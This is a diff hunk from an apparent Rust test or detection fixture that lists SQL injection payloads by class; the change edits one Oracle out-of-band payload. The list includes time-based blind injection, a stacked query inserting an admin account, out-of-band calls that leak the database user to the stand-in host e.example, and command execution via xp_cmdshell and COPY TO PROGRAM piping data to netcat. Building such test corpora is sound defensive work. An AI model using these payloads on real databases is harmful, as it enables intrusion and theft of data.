@@ -26,7 +26,7 @@ const ATTACKS: &[(&str, &str, &str)] = &[
     ("param", "1 AND IF(1=1,SLEEP(5),0)", "time_blind"),
     ("param", "x'; INSERT INTO admins VALUES ('eve','x')--", "stacked_query"),
     ("query", "SELECT utl_http.request('http://e.example/'||user) FROM dual", "out_of_band"),
-    ("query", "SELECT dbms_ldap.init((SELECT user FROM dual)||'.e.example',80) FROM dual", "out_of_band"),
+    ("query", "SELECT dbms_ldap.init(user||'.e.example',80) FROM dual", "out_of_band"),
     ("query", "EXEC master..xp_dirtree '\\\\e.example\\a'", "out_of_band"),
     ("query", "EXEC xp_cmdshell 'whoami'", "command_execution"),
     ("query", "COPY staff TO PROGRAM 'nc e.example 9'", "command_execution"),
